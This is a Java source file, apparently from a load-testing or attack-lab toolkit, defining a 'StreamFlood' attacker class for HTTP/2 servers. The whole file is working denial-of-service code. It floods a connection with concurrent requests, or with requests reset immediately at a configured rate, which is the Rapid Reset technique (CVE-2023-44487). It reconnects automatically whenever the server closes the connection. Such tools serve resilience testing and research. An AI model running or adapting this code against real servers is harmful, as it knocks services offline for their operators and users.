package io.headwaiter.lab.abuse;

import io.headwaiter.load.TlsMemory;
import io.netty.buffer.ByteBuf;
import io.netty.buffer.Unpooled;
import java.io.IOException;
import java.time.Duration;
import java.util.List;

/**
 * One connection of HTTP/2 with many requests at a time, each replaced as soon as it ends, or with
 * requests that are taken back at once. When the server ends the connection, the visit comes again.
 */
public final class StreamFlood implements Attacker {
  private static final int TICKETS_MAX = 8;
  private static final long AGAIN_MILLIS = 100;
  private static final long RESETS_MILLIS = 10;

  private final int atOnce;
  private final double resetsPerSecond;
  private final String page;
  private final TlsCrowd crowd;
  private final TlsMemory memory = TlsMemory.thrifty(TICKETS_MAX);

  private StreamFlood(
      Target target, int atOnce, double resetsPerSecond, String page, String networks)
      throws IOException {
    this.atOnce = atOnce;
    this.resetsPerSecond = resetsPerSecond;
    this.page = page;
    this.crowd = new TlsCrowd(target, List.of("h2"), networks);
  }

  /** So many requests at a time, for as long as it lasts. */
  public static StreamFlood requests(Target target, int atOnce, String page, String networks)
      throws IOException {
    return new StreamFlood(target, atOnce, 0, page, networks);
  }

  /** So many requests a second, each taken back at once (rapid reset, CVE-2023-44487). */
  public static StreamFlood resets(
      Target target, double ratePerSecond, String page, String networks) throws IOException {
    return new StreamFlood(target, 0, ratePerSecond, page, networks);
  }

  @Override
  public Tally run(Duration duration) throws IOException, InterruptedException {
    return crowd.run(duration, () -> crowd.connect(memory, new Session()));
  }

  @Override
  public void close() {
    crowd.close();
  }

  /** One connection. */
  private final class Session implements TlsLink.Script {
    private final Http2 http2 = new Http2(page);

    @Override
    public void entered(TlsLink link) {
      ByteBuf first = Http2.opening();
      for (int i = 0; i < atOnce; i++) {
        http2.request(first);
      }
      link.send(first);
      if (resetsPerSecond > 0) {
        reset(link);
      }
    }

    private void reset(TlsLink link) {
      if (!link.open()) {
        return;
      }
      ByteBuf batch = Unpooled.buffer();
      for (int i = 0; i < resetsPerSecond * RESETS_MILLIS / 1000; i++) {
        http2.requestAndReset(batch);
      }
      link.send(batch);
      crowd.later(RESETS_MILLIS, () -> reset(link));
    }

    @Override
    public void received(TlsLink link, ByteBuf bytes) {
      ByteBuf replies = Unpooled.buffer();
      int ended = http2.read(bytes, replies);
      for (int i = 0; i < ended; i++) {
        crowd.countAnswer();
        if (atOnce > 0) {
          http2.request(replies);
        }
      }
      if (http2.goingAway()) {
        replies.release();
        link.leave();
        gone(link);
      } else if (replies.isReadable()) {
        link.send(replies);
      } else {
        replies.release();
      }
    }

    @Override
    public void gone(TlsLink link) {
      crowd.later(AGAIN_MILLIS, () -> crowd.connect(memory, new Session()));
    }
  }
}
